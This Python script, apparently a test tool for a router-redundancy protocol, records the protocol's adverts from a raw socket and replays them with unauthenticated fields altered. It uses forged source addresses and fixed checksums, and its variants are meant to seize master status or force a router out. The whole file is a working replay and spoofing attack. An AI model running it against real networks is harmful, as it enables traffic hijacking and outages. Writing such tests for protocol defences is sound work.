# SPDX-License-Identifier: GPL-2.0
"""An attacker on the link who does not have the key: records adverts, and sends them again with
whatever the digest does not cover.

	replay.py record FILE N		the next N adverts that are heard on eth0
	replay.py send FILE WHAT...	each of them, changed in each of these ways
"""

import _socket as socket
import struct
import sys

import wire

SOURCE, SOURCE_V6 = "192.0.2.200", "fe80::200"

# What is written into an advert: (advskew, demotion, advbase), TTL, family. None: as it was.
WAYS = {
    "unchanged": ((None, None, None), 255, 4),
    "better": ((0, 0, 0), 255, 4),
    "better6": ((0, 0, 0), 255, 6),
    "worse": ((254, 0, 0), 255, 4),
    "rare": ((0, 0, 150), 255, 4),
    "demoted": ((None, 255, None), 255, 4),
    "leaving": ((255, 0, 255), 255, 4),
    "leaving6": ((255, 0, 255), 255, 6),
    "routed": ((0, 0, 0), 254, 4),
    "routed6": ((0, 0, 0), 254, 6),
}


def forge(advert, way):
    """The frame around the 36 bytes, from another source and with right checksums."""
    fields, ttl, family = WAYS[way]
    data = bytearray(advert)
    for at, value in zip((2, 4, 5), fields):
        if value is not None:
            data[at] = value
    data[6:8] = b"\0\0"
    data[6:8] = struct.pack("!H", wire.checksum(bytes(data)))
    vhid = data[1]
    if family == 6:
        return wire.frame6(wire.packet6(bytes(data), SOURCE_V6, hop_limit=ttl), vhid)
    return wire.frame(wire.packet(bytes(data), SOURCE, ttl=ttl), vhid)


def record(wires, number):
    wires.settimeout(20)
    while number > 0:
        data = wires.recv(2000)
        if wire.is_advert(data):
            yield data[34:70]
            number -= 1
        elif wire.is_advert6(data):
            yield data[54:90]
            number -= 1


def main():
    mode, path = sys.argv[1:3]
    wires = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wires.bind(("eth0", 0))
    if mode == "record":
        with open(path, "w", encoding="ascii") as file:
            for advert in record(wires, int(sys.argv[3])):
                print(advert.hex(), file=file)
        return
    with open(path, encoding="ascii") as file:
        for line in file:
            for way in sys.argv[3:]:
                wires.send(forge(bytes.fromhex(line), way))


main()
